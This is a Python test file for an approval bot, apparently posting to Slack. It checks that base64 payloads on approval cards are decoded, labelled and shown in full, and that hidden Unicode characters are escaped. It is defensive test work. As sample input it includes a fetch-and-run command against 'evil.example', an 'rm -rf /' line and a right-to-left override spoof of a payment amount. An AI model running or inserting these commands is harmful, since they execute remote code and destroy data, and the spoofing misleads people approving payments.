"""What a card and Review… say of bytes in a payload, and that nothing is hidden or approved unseen."""

import base64
import hashlib
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from signoff.bot.blocks import check_message, check_view
from signoff.bot.cards.card import card
from signoff.bot.forms.modals import note_view
from signoff.bot.forms.review import read_page, review_view
from signoff.bot.text.fold import shown_whole
from signoff.bot.text.which import value_lines
from signoff.bot.text.words import octets as words
from signoff.models.approval import Approval, Card, File

Make = Callable[..., Approval]
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40
PNG = b"\x89PNG\r\n\x1a\n" + bytes(60)


def encoded(content: bytes) -> str:
    return base64.b64encode(content).decode()


def in_thread(asked: Approval, *contents: bytes, where: str = "1.1", state: str = "posted") -> Approval:
    """The same once these stand in its card's thread."""
    files = tuple(File(hashlib.sha256(one).hexdigest(), state, "C1", where) for one in contents)
    return replace(asked, files=files, card=Card(1, conversation="C1", message="1.1"))


def pages(asked: Approval, seen: Any) -> str:
    _, count = read_page(review_view(asked))
    views = [review_view(asked, page) for page in range(1, count + 1)]
    assert not [problem for view in views for problem in check_view(view)]
    return "".join(seen(view["blocks"]) for view in views)


@pytest.mark.parametrize("name", ["file", "data", "raw", "x", "note"])
@pytest.mark.parametrize(
    "put", [lambda name, text: {name: text}, lambda name, text: {"a": {"b": [{name: text}]}}]
)
def test_bytes_are_told_by_what_they_are_wherever_they_stand(
    make: Make, seen: Any, name: str, put: Callable[[str, str], dict[str, Any]]
) -> None:
    asked = make(put(name, encoded(PDF)))
    text = seen(card(asked).blocks)
    assert f"PDF, 10 KB, sha {hashlib.sha256(PDF).hexdigest()[:8]}…" in text
    assert encoded(PDF)[:40] not in text
    assert not shown_whole(asked)
    assert encoded(PDF) in pages(asked, seen).replace("\n", "")


def test_once_a_file_is_in_the_thread_the_payload_counts_as_shown(make: Make, seen: Any) -> None:
    asked = make({"to": "Ana", "invoice": encoded(PDF), "logo": encoded(PNG)})
    for contents, whole in (((), False), ((PDF,), False), ((PNG,), False), ((PNG, PDF), True)):
        here = in_thread(asked, *contents)
        drawn = card(here)
        assert check_message(drawn.blocks) == []
        assert shown_whole(here) is whole
    text = seen(card(in_thread(asked, PDF, PNG)).blocks)
    assert "to look at: attachment-1.pdf" in text and "to look at: attachment-2.png" in text
    note = note_view(in_thread(asked, PDF, PNG))
    assert check_view(note) == [] and encoded(PDF)[:200] not in seen(note["blocks"])


def test_review_has_the_base64_only_of_what_is_not_in_the_thread(make: Make, seen: Any) -> None:
    asked = make({"body": "line\n" * 400, "invoice": encoded(PDF), "logo": encoded(PNG)})
    assert encoded(PDF) in pages(asked, seen)
    here = pages(in_thread(asked, PDF), seen)
    assert encoded(PDF)[:200] not in here and "attachment-1.pdf" in here and encoded(PNG) in here
    assert hashlib.sha256(PDF).hexdigest()[:8] in here, "Details… has all of its digest"


@pytest.mark.parametrize("state", ["wanted", "unwanted"])
def test_a_file_that_is_not_there_yet_or_no_longer_does_not_count(make: Make, state: str) -> None:
    asked = make({"invoice": encoded(PDF)})
    assert not shown_whole(in_thread(asked, PDF, state=state))
    assert not shown_whole(in_thread(asked, PDF, where="2.2")), "it is in another card's thread"
    assert not shown_whole(in_thread(asked, PDF[:-1])), "it is another file"


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04" + bytes(400), b"\x7fELF" + bytes(400), bytes(range(256)) * 9]
)
def test_what_slack_does_not_show_never_counts_as_shown(make: Make, content: bytes) -> None:
    assert not shown_whole(in_thread(make({"f": encoded(content)}), content))


def test_text_in_base64_is_read_on_the_card(make: Make, seen: Any) -> None:
    script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
    text = seen(card(make({"blob": encoded(script)})).blocks)
    assert "a script" in text and "curl https://evil.example/x | sh" in text and words.DECODED in text
    assert encoded(script) in text, "the value is the base64, and short"


def test_what_is_decoded_cannot_hide_characters_or_lines(make: Make, seen: Any) -> None:
    asked = make({"blob": encoded("pay \u202e001 EUR\nto eve\u200b".encode())})
    text = seen(card(asked).blocks)
    assert "\\u{202e}" in text and "\u202e" not in text and "to eve\\u{200b}" in text
    long = make({"blob": encoded(b"line\n" * 900 + b"rm -rf /\n")})
    assert not shown_whole(long) and "rm -rf /" in pages(long, seen)


def test_a_picture_that_two_programs_read_differently_is_said_to_be_so(make: Make, seen: Any) -> None:
    two = encoded(PNG[:9]) + "_---" + encoded(b"another one" * 9)
    found = base64.urlsafe_b64decode(two)
    asked = in_thread(make({"picture": two}), found)
    assert not shown_whole(asked)
    assert words.READ_OTHERWISE in seen(card(asked).blocks) and words.READ_OTHERWISE in pages(asked, seen)


def test_a_line_that_names_a_request_says_what_its_file_is(make: Make) -> None:
    for value in (encoded(PDF), "data:application/pdf;base64," + encoded(PDF)):
        asked = make({"invoice": value, "amount": 120})
        assert "invoice (PDF)" in value_lines(None, asked.payload, 290)
    assert "JVBERi0" in value_lines(None, {"invoice": "JVBERi0"}, 290)


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60)
VALUES = st.one_of(
    st.binary(max_size=300).map(encoded), st.binary(max_size=300).map(bytes.hex), TEXTS,
    st.binary(max_size=300).map(lambda rest: encoded(PNG + rest)),
    st.binary(max_size=300).map(lambda rest: f"data:image/png;base64,{encoded(PNG + rest)}"),
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(st.sampled_from("abcdef"), VALUES, min_size=1))
def test_no_approve_without_every_byte_on_the_card_or_in_the_thread(
    make: Make, seen: Any, payload: Any
) -> None:
    asked = make(payload)
    shown = seen(card(asked).blocks)
    if shown_whole(asked):
        for value in payload.values():
            assert not value.isascii() or not value.isalnum() or value in shown
    for value in payload.values():
        if value.isascii() and value.isalnum():
            assert value in pages(asked, seen).replace("\n", "")
